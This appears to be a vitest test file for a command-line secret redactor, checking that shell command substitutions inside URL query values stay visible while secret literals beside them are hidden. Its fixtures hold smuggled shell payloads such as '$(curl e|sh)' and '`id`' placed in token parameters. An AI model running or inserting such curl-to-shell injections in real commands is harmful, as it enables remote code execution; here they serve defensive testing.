// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} references, meant literally.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { withoutCommandLineSecrets } from "./index.js";
import {
  expectFilledBack,
  expectKept,
  expectShownAndExported,
  exportedCommand,
} from "./test-support/spec-cases.js";

// fix171: a telling query value holding a run-time part (`$(…)`, a backtick's, `${…}`) was hidden
// in the display with the part of the payload the URL's word held (`?token=$(curl e|sh)` shown as
// `… e|sh)`). The display keeps each run-time part in sight and takes out only the literal text
// beside it; the export takes the pair out as it did.

describe("a run-time part in a URL's telling query value stays in the display", () => {
  it.each([
    // The payload holds a blank: the URL is read past it to the part's close (fix172; the export
    // kept the payload's rest after the URL, `https://h/p e|sh)`, before it).
    [
      'srv --url "https://h/p?token=$(curl e|sh)"',
      'srv --url "https://h/p?token=$(curl e|sh)"',
      'srv --url "https://h/p"',
    ],
    [
      "srv --url https://h/p?token=$(curl e|sh)",
      "srv --url https://h/p?token=$(curl e|sh)",
      "srv --url https://h/p",
    ],
    [
      'srv --url "https://h/p?token=`curl e|sh`"',
      'srv --url "https://h/p?token=`curl e|sh`"',
      'srv --url "https://h/p"',
    ],
    [
      "srv --url https://h/p?token=`curl e|sh`",
      "srv --url https://h/p?token=`curl e|sh`",
      "srv --url https://h/p",
    ],
    // No blank inside: the whole payload was hidden.
    ['srv --url "https://h/p?token=$(id)"', 'srv --url "https://h/p?token=$(id)"', 'srv --url "https://h/p"'],
    [
      'srv --url "https://h/p?a=1&token=`id`&b=2"',
      'srv --url "https://h/p?a=1&token=`id`&b=2"',
      'srv --url "https://h/p?a=1&b=2"',
    ],
    // A literal beside the payload is still taken out of the display.
    [
      'srv --url "https://h/p?token=Zq9secret$(id)"',
      'srv --url "https://h/p?token=$(id)"',
      'srv --url "https://h/p"',
    ],
    [
      'srv --url "https://h/p?token=Zq9secret$(curl e|sh)&b=2"',
      'srv --url "https://h/p?token=$(curl e|sh)&b=2"',
      'srv --url "https://h/p?b=2"',
    ],
    [
      'srv --url "https://h/p?token=Zq9secret${X}"',
      'srv --url "https://h/p?token=${X}"',
      'srv --url "https://h/p"',
    ],
    [
      'srv --url "https://h/p?token=a`id`b9secret"',
      'srv --url "https://h/p?token=`id`"',
      'srv --url "https://h/p"',
    ],
  ])("%s", (line, shown, exported) => {
    expectShownAndExported(line, shown, exported);
    expectFilledBack(line);
  });

  it("a literal beside the payload is handed to hide, named by the pair, and fills back", () => {
    const asked: [string, string | undefined][] = [];
    const line = 'srv --url "https://h/p?api_key=Zq9secret$(id)tail9x"';
    const shown = withoutCommandLineSecrets(line, (secret, name) => {
      asked.push([secret, name]);
      return `<${name}>`;
    });
    expect(shown).toBe('srv --url "https://h/p?api_key=<api_key>$(id)<api_key>"');
    expect(asked).toEqual([
      ["Zq9secret", "api_key"],
      ["tail9x", "api_key"],
    ]);
  });

  it("a `$TOKEN` or `${TOKEN}` value is kept in sight", () => {
    // `$TOKEN` is a reference the shell fills, no literal: kept in both views (fix173; it was taken out as text).
    expectKept("srv --url https://h/p?token=$TOKEN");
    expectKept('srv --url "https://h/p?token=$TOKEN"');
    // `${TOKEN}` alone says nothing in clear: the display keeps it as written.
    expect(withoutCommandLineSecrets('srv --url "https://h/p?token=${TOKEN}"')).toBe(
      'srv --url "https://h/p?token=${TOKEN}"',
    );
  });

  it("property: any ?k=<payload> with k telling keeps the payload in the display, as often as written", () => {
    const key = fc.constantFrom("token", "api_key", "access_token", "password", "secret", "client_secret");
    const payload = fc.constantFrom(
      "$(curl e|sh)",
      "`curl e|sh`",
      "$(id)",
      "`id`",
      "$(echo $(id))",
      "${X:-$(id)}",
    );
    const literal = fc.constantFrom("", "Zq9secret", "a9");
    const tail = fc.constantFrom("", "Tq8tail", "b7");
    const quote = fc.constantFrom("", '"');
    const more = fc.constantFrom("", "&b=2", "#frag");
    const rest = fc.constantFrom("", " --v 1", "; srv2");
    fc.assert(
      fc.property(key, payload, literal, tail, more, quote, rest, (k, run, before, after, url2, q, end) => {
        const url = `https://h/p?${k}=${before}${run}${after}${url2}`;
        const line = `srv --url ${q}${url}${q}${end}`;
        const shown = withoutCommandLineSecrets(line);
        expect(shown.split(run).length - 1).toBe(line.split(run).length - 1);
        // No literal beside it is newly shown, and the export leaves no literal in clear. (A literal
        // after a payload holding a blank is past the URL's word, in both views as before: see the report.)
        const literals = [before, /\s/.test(run) ? "" : after].filter((text) => text !== "");
        for (const text of literals) {
          expect(shown.split(text).length).toBeLessThan(line.split(text).length);
          expect(exportedCommand(line)).not.toContain(text);
        }
        expectFilledBack(line);
      }),
    );
  });
});
